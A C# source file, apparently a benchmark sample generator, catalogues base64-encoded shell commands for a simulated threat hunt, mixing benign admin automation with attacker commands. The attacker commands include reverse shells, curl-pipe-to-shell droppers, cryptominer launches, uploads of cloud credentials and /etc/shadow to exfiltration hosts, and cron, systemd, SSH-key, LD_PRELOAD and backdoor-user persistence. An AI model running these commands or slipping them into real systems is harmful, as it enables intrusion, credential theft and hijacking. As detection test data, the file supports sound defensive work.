using System.Collections.Generic;
using System.Linq;

namespace B64Hunt.Benchmarks.SampleGenerator
{
    /// <summary>
    /// The distinct encoded commands of the sample hunt: two intrusions (a cryptojacking campaign through the web tier
    /// and the Kubernetes nodes; a hands-on intrusion of a build agent and a database), a botnet drive-by, and the admin
    /// automation that uses base64 for honest reasons. Attacker infrastructure uses documentation ranges
    /// (203.0.113/24, 198.51.100/24, 192.0.2/24), example.* domains, and a few public-looking addresses
    /// (45.9.148/24, 185.220.101/24) so indicator extraction has routable addresses to report.
    /// </summary>
    public static class PayloadCatalog
    {
        /// <summary>A made-up Monero address (95 base58 characters): miners carry one.</summary>
        public const string Wallet = "4A9sKq7nYtR3mWvX2bLcP8dZfH5jN6gT1uE4rS9yQwV7kM3xB2cD8fG5hJ1nL6pR4tY9wZ3aE7sK2mV5qX8uB1dF6gH3jNa";

        /// <summary>SHA-256 an attacker's dropper checks before running its bot.</summary>
        public const string BotSha256 = "9f2c4e7a1b3d5f60c8e2a4b6d8f0123456789abcdef0fedcba9876543210abcd";

        public const string KworkerMiner =
            "wget -q -O /var/tmp/.kworker http://cdn-update.example.net/dl/kworker; chmod 755 /var/tmp/.kworker; " +
            "/var/tmp/.kworker -o stratum+tcp://pool.minexmr.example.net:5555 -u " + Wallet + " -k --tls --cpu-max-threads-hint=75 &";

        public const string SystemdUnit =
            "printf '[Unit]\\nDescription=System Update Service\\nAfter=network.target\\n\\n[Service]\\nExecStart=/usr/local/bin/sysupdate -c /etc/sysupdate.conf\\nRestart=always\\n\\n[Install]\\nWantedBy=multi-user.target\\n' " +
            "> /etc/systemd/system/sysupdate.service && systemctl daemon-reload && systemctl enable --now sysupdate.service";

        /// <summary>An attacker's SSH key (a look-alike: base64 inside the decoded command that is not a payload).</summary>
        public static readonly string AttackerSshKey = "ssh-rsa " + FakeSshKeyBody(0xA77AC4E5UL) + " root@kali";

        /// <summary>Roles whose hosts run no encoded command at all (some alerts land there).</summary>
        public static readonly HostRole[] NoBase64Roles = { HostRole.Bastion, HostRole.Gateway, HostRole.Mail, HostRole.Monitor, HostRole.Log };

        public static IReadOnlyList<SamplePayload> All { get; } = Build();

        public static SamplePayload Get(string id) => All.First(p => p.Id == id);

        private static IReadOnlyList<SamplePayload> Build()
        {
            var web = SampleHosts.WithRole(HostRole.Web).Select(h => h.Name).ToArray();
            var app = SampleHosts.WithRole(HostRole.App).Select(h => h.Name).ToArray();
            var build = SampleHosts.WithRole(HostRole.Build).Select(h => h.Name).ToArray();
            var k8s = SampleHosts.WithRole(HostRole.Kubernetes).Select(h => h.Name).ToArray();
            // Bastion, gateway, mail, monitoring and log hosts are patched by other tooling: they never run base64.
            var patched = SampleHosts.All.Where(h => !NoBase64Roles.Contains(h.Role)).Select(h => h.Name).ToArray();
            const string k8s5 = "k8s-node-5.contoso.local", k8s7 = "k8s-node-7.contoso.local";

            var list = new List<SamplePayload>
            {
                // ---- Campaign 1: cryptojacking through the web tier (days 6-7), then the Kubernetes nodes (days 9-10) ----
                new SamplePayload("recon-basic", PayloadKind.Recon, EncodingForm.EchoPipe,
                    "uname -a; id; cat /etc/passwd; ip a; ps aux",
                    SampleAccount.WebServer, PayloadSchedule.Random(6, 8, 1, 2, 1, 4), new[] { "web-03", "web-05", "app-04" }),
                new SamplePayload("dropper-ldr-curl", PayloadKind.Dropper, EncodingForm.EchoNDecode,
                    "curl -fsSL http://45.9.148.99/ldr.sh | sh",
                    SampleAccount.WebServer, PayloadSchedule.Random(6, 8, 1, 2, 1, 4), new[] { "web-02", "web-03", "web-05" }, shell: "sh"),
                new SamplePayload("miner-xmrig-curl", PayloadKind.Miner, EncodingForm.EchoPipe,
                    "curl -s http://45.9.148.35/xmrig -o /tmp/.X11-unix/xmrig && chmod +x /tmp/.X11-unix/xmrig && " +
                    "/tmp/.X11-unix/xmrig -o stratum+tcp://pool.minexmr.example.net:3333 -u " + Wallet + " -p web --donate-level=1 -B",
                    SampleAccount.WebServer, PayloadSchedule.Random(6, 7, 1, 2, 1, 4), new[] { "web-03", "web-05" }),
                new SamplePayload("persist-crontab", PayloadKind.Persistence, EncodingForm.Perl,
                    "(crontab -l 2>/dev/null; echo \"*/10 * * * * curl -fsSL http://cdn-update.example.net/c.sh | sh\") | crontab -",
                    SampleAccount.WebServer, PayloadSchedule.Random(6, 7, 1, 1, 1, 4), new[] { "web-03", "web-05" }),
                new SamplePayload("revshell-bash-tcp", PayloadKind.ReverseShell, EncodingForm.BraceExpansion,
                    "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
                    SampleAccount.WebServer, PayloadSchedule.Night(6, 1, 2), new[] { "web-03" }),
                new SamplePayload("evasion-miner-tuning", PayloadKind.Evasion, EncodingForm.OpensslEnc,
                    "echo 0 > /proc/sys/kernel/nmi_watchdog; sysctl -w vm.nr_hugepages=1280; rm -rf /tmp/.X11-unix/*.log; touch -r /bin/ls /tmp/.X11-unix/xmrig",
                    SampleAccount.WebServer, PayloadSchedule.Night(6), new[] { "web-03" }),
                new SamplePayload("revshell-perl", PayloadKind.ReverseShell, EncodingForm.OpensslEnc,
                    "perl -e 'use Socket;$i=\"203.0.113.9\";$p=53;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));" +
                    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
                    SampleAccount.WebServer, PayloadSchedule.Night(7), new[] { "web-05" }),
                new SamplePayload("dropper-sh-fallback", PayloadKind.Dropper, EncodingForm.UrlSafe,
                    "(curl -fsSL http://update.linux-sys.example.com/s.sh?h=$(hostname) || wget -q -O- http://update.linux-sys.example.com/s.sh?h=$(hostname)) | bash",
                    SampleAccount.WebServer, PayloadSchedule.Night(7), new[] { "web-05" }, shell: "sh"),
                new SamplePayload("miner-kill-competitors", PayloadKind.Miner, EncodingForm.PrintfCapitalD,
                    "pkill -9 -f kinsing; pkill -9 -f kdevtmpfsi; pkill -9 -f xmr-stak; ps aux | grep -v grep | grep -E 'minerd|cryptonight' | awk '{print $2}' | xargs -r kill -9",
                    SampleAccount.RootDaemon, PayloadSchedule.Random(9, 14, 3, 6), new[] { k8s7, "web-03" }, shell: "/bin/sh"),
                new SamplePayload("recon-cpu", PayloadKind.Recon, EncodingForm.HereString,
                    "cat /proc/cpuinfo | grep -c processor; lscpu | grep 'Model name'; nvidia-smi -L 2>/dev/null; free -g",
                    SampleAccount.RootDaemon, PayloadSchedule.Night(9), new[] { k8s7 }),
                new SamplePayload("miner-nohup", PayloadKind.Miner, EncodingForm.BraceExpansion,
                    "cd /var/tmp/.font-unix && nohup ./xmrig --url=stratum+tcp://185.220.101.47:4444 --user=" + Wallet + " --pass=k8s --threads=2 --background >/dev/null 2>&1 &",
                    SampleAccount.RootDaemon, PayloadSchedule.Random(9, 10, 2, 3, 1, 4), new[] { k8s7 }),
                new SamplePayload("miner-kworker-gzip", PayloadKind.Miner, EncodingForm.Gzip,
                    KworkerMiner, SampleAccount.RootDaemon, PayloadSchedule.Random(9, 10, 1, 2, 1, 5), new[] { k8s5, k8s7 }),
                new SamplePayload("persist-systemd", PayloadKind.Persistence, EncodingForm.Gzip,
                    SystemdUnit, SampleAccount.RootDaemon, PayloadSchedule.Night(9), new[] { k8s7 }),
                new SamplePayload("evasion-firewall", PayloadKind.Evasion, EncodingForm.CommandSubstitution,
                    "iptables -F; setenforce 0; systemctl stop firewalld; ufw disable",
                    SampleAccount.RootDaemon, PayloadSchedule.Random(8, 9, 1, 1, 1, 4), new[] { k8s7, "app-02" }),

                // ---- Campaign 2: hands-on intrusion of build-agent-3 (day 10), then db-02 (day 11) ----
                new SamplePayload("recon-host", PayloadKind.Recon, EncodingForm.EchoNDecode,
                    "hostname; whoami; cat /etc/os-release; df -h; netstat -antp; nproc; free -m",
                    SampleAccount.Jenkins, PayloadSchedule.Night(10), new[] { "build-agent-3" }),
                new SamplePayload("revshell-nc", PayloadKind.ReverseShell, EncodingForm.Backticks,
                    "nc -e /bin/sh 185.220.101.47 9001",
                    SampleAccount.Jenkins, PayloadSchedule.Night(10, 2, 2), new[] { "build-agent-3" }),
                new SamplePayload("dropper-agent-python", PayloadKind.Dropper, EncodingForm.Python,
                    "curl -s http://45.9.148.35/agent -o /tmp/agent; chmod 755 /tmp/agent; /tmp/agent &",
                    SampleAccount.Jenkins, PayloadSchedule.Night(10), new[] { "build-agent-3" }),
                new SamplePayload("cred-cloud-files", PayloadKind.CredentialAccess, EncodingForm.MissingPadding,
                    "cat ~/.aws/credentials ~/.azure/msal_token_cache.json ~/.docker/config.json 2>/dev/null | base64 -w0 | curl -s -d @- http://exfil.example.org/c",
                    SampleAccount.Jenkins, PayloadSchedule.Night(10), new[] { "build-agent-3" }),
                new SamplePayload("persist-ssh-key", PayloadKind.Persistence, EncodingForm.EchoEDecodeIgnore,
                    "mkdir -p /root/.ssh && echo '" + AttackerSshKey + "' >> /root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys",
                    SampleAccount.RootDaemon, PayloadSchedule.Night(10), new[] { "build-agent-3" }, shell: "sh"),
                new SamplePayload("persist-ld-preload", PayloadKind.Persistence, EncodingForm.Busybox,
                    "curl -s http://185.220.101.12/libprocesshider.so -o /usr/local/lib/libsystemd-core.so && echo /usr/local/lib/libsystemd-core.so > /etc/ld.so.preload",
                    SampleAccount.RootDaemon, PayloadSchedule.Night(10), new[] { "build-agent-3" }, shell: "sh"),
                new SamplePayload("evasion-audit", PayloadKind.Evasion, EncodingForm.Perl,
                    "systemctl stop auoms; service auditd stop; auditctl -D; chattr +i /etc/ld.so.preload",
                    SampleAccount.RootDaemon, PayloadSchedule.Night(10), new[] { "build-agent-3" }),
                new SamplePayload("evasion-history", PayloadKind.Evasion, EncodingForm.Python,
                    "unset HISTFILE; history -c; rm -rf /var/log/*; rm -f ~/.bash_history",
                    SampleAccount.RootDaemon, PayloadSchedule.Random(10, 11, 1, 1, 2, 5), new[] { "build-agent-3", "db-02" }),
                new SamplePayload("revshell-python", PayloadKind.ReverseShell, EncodingForm.EchoPipe,
                    "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"45.9.148.121\",443));" +
                    "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'",
                    SampleAccount.Postgres, PayloadSchedule.Night(11), new[] { "db-02" }, shell: "sh"),
                new SamplePayload("recon-suid", PayloadKind.Recon, EncodingForm.PrintfCapitalD,
                    "find / -perm -4000 -type f 2>/dev/null; sudo -l; getent passwd | cut -d: -f1",
                    SampleAccount.Postgres, PayloadSchedule.Night(11), new[] { "db-02" }, shell: "sh"),
                new SamplePayload("revshell-mkfifo-nested", PayloadKind.ReverseShell, EncodingForm.Nested,
                    "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 45.9.148.203 4242 >/tmp/f",
                    SampleAccount.Postgres, PayloadSchedule.Night(11, 1, 3), new[] { "db-02" }, shell: "sh"),
                new SamplePayload("cred-shadow", PayloadKind.CredentialAccess, EncodingForm.EchoEDecodeIgnore,
                    "cat /etc/shadow | curl -s -X POST --data-binary @- http://45.9.148.35/u",
                    SampleAccount.RootDaemon, PayloadSchedule.Night(11), new[] { "db-02" }, shell: "sh"),
                new SamplePayload("persist-backdoor-user", PayloadKind.Persistence, EncodingForm.SplitQuotes,
                    "useradd -m -o -u 0 -g 0 -s /bin/bash sysadmin2 && echo 'sysadmin2:Winter2026' | chpasswd && " +
                    "sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config && systemctl reload sshd",
                    SampleAccount.RootDaemon, PayloadSchedule.Night(11), new[] { "db-02" }),
                new SamplePayload("dropper-bot-hex", PayloadKind.Dropper, EncodingForm.Hex,
                    "wget -qO /dev/shm/.bot http://185.220.101.12/bot && echo \"" + BotSha256 + "  /dev/shm/.bot\" | sha256sum -c --status && " +
                    "chmod +x /dev/shm/.bot && /dev/shm/.bot -c repo.kworker.example.org",
                    SampleAccount.RootDaemon, PayloadSchedule.Night(11), new[] { "db-02" }, shell: "sh"),

                // ---- A pivot to app-02 (day 8) and a botnet drive-by on an exposed Redis (day 12) ----
                new SamplePayload("dropper-x86-wget", PayloadKind.Dropper, EncodingForm.HereString,
                    "wget -q http://198.51.100.23/x86_64 -O /tmp/.ICE-unix/x && chmod +x /tmp/.ICE-unix/x && /tmp/.ICE-unix/x",
                    SampleAccount.RootDaemon, PayloadSchedule.Night(8), new[] { "app-02" }),
                new SamplePayload("revshell-socat", PayloadKind.ReverseShell, EncodingForm.CommandSubstitution,
                    "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.77:8443",
                    SampleAccount.RootDaemon, PayloadSchedule.Night(8, 1, 2), new[] { "app-02" }),
                new SamplePayload("cred-imds-token", PayloadKind.CredentialAccess, EncodingForm.BraceExpansion,
                    "curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/' | curl -s -X POST -d @- https://exfil.example.org/t",
                    SampleAccount.RootDaemon, PayloadSchedule.Night(8), new[] { "app-02" }),
                new SamplePayload("persist-bashrc", PayloadKind.Persistence, EncodingForm.EchoPipe,
                    "echo 'nohup /var/tmp/.font-unix/xmrig --background >/dev/null 2>&1 &' >> ~/.bashrc",
                    SampleAccount.Deploy, PayloadSchedule.Night(8), new[] { "app-02" }, shell: "sh"),
                new SamplePayload("dropper-botnet-bins", PayloadKind.Dropper, EncodingForm.MissingPadding,
                    "cd /tmp || cd /var/run || cd /dev/shm; wget http://192.0.2.14/bins/x86; wget http://192.0.2.14/bins/mips; chmod 777 x86 mips; ./x86 redis.exploit; ./mips redis.exploit",
                    SampleAccount.Redis, PayloadSchedule.Random(12, 12, 1, 2), new[] { "cache-02" }, shell: "sh"),

                // ---- Admin automation that uses base64 honestly ----
                new SamplePayload("admin-healthcheck", PayloadKind.Admin, EncodingForm.EchoPipe,
                    "curl -fsS -m 5 http://127.0.0.1:8080/healthz >/dev/null || systemctl restart shop-api.service",
                    SampleAccount.RootCron, PayloadSchedule.Every(12), app.Concat(web).ToArray(), shell: "/bin/sh"),
                new SamplePayload("admin-cloud-init", PayloadKind.Admin, EncodingForm.DecodeToFile,
                    "#!/bin/bash\nset -euo pipefail\napt-get update -y\napt-get install -y ca-certificates curl jq\n" +
                    "echo \"worker\" > /etc/node-role\nsystemctl enable --now containerd\n",
                    SampleAccount.RootDaemon, PayloadSchedule.Random(1, 1, 1, 1, 0, 2), k8s.Concat(build).ToArray(), shell: "sh"),
                new SamplePayload("admin-k8s-secret", PayloadKind.Admin, EncodingForm.EchoPipe,
                    "kubectl -n shop create secret generic db-url --from-literal=url=postgres://shop@db-02.contoso.local:5432/shop --dry-run=client -o yaml | kubectl apply -f -",
                    SampleAccount.Jenkins, PayloadSchedule.Random(1, 14, 4, 9, 8, 18), build, shell: "sh"),
                new SamplePayload("admin-config-template", PayloadKind.Admin, EncodingForm.EchoNDecode,
                    "sed -i 's/__DB_HOST__/db-02.contoso.local/; s/__CACHE_HOST__/cache-01/' /etc/shop/appsettings.json && systemctl reload shop-api",
                    SampleAccount.Deploy, PayloadSchedule.Random(1, 14, 3, 6, 9, 17), app),
                new SamplePayload("admin-docker-auth", PayloadKind.Admin, EncodingForm.EchoPipe,
                    "mkdir -p ~/.docker && echo '{\"auths\":{\"registry.contoso.local\":{\"auth\":\"" + PayloadEncoder.Base64("deploy:S3cret-Registry-2026") + "\"}}}' > ~/.docker/config.json",
                    SampleAccount.Jenkins, PayloadSchedule.Random(1, 14, 8, 14, 7, 19), build),
                new SamplePayload("admin-backup", PayloadKind.Admin, EncodingForm.EchoPipe,
                    "tar czf /backup/etc-$(date +%F).tgz /etc && find /backup -name 'etc-*.tgz' -mtime +7 -delete",
                    SampleAccount.RootCron, PayloadSchedule.Every(24), new[] { "db-01", "db-02", "db-03", "cache-01", "cache-02" }, shell: "/bin/sh"),
                new SamplePayload("admin-patch", PayloadKind.Admin, EncodingForm.EchoPipe,
                    "apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get -y -qq upgrade && (needrestart -r l || true)",
                    SampleAccount.RootDaemon, PayloadSchedule.Random(4, 4, 1, 1, 2, 3), patched),
                new SamplePayload("admin-monitoring-agent", PayloadKind.Admin, EncodingForm.EchoPipe,
                    "curl -fsSL https://packages.contoso.local/monitoring/install-agent.sh | bash -s -- --tenant contoso --env prod",
                    SampleAccount.RootSudo, PayloadSchedule.Random(2, 3, 1, 1, 10, 16), web.Concat(app).Concat(new[] { "db-01", "db-02" }).ToArray()),
            };
            return list;
        }

        /// <summary>A body shaped like an RSA public key blob (fixed prefix, then pseudo-random base64).</summary>
        public static string FakeSshKeyBody(ulong seed)
        {
            const string alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
            var rng = new DeterministicRandom(seed);
            var chars = new char[340];
            for (int i = 0; i < chars.Length; i++) chars[i] = alphabet[rng.Next(64)];
            return "AAAAB3NzaC1yc2EAAAADAQABAAABAQ" + new string(chars) + "==";
        }
    }
}
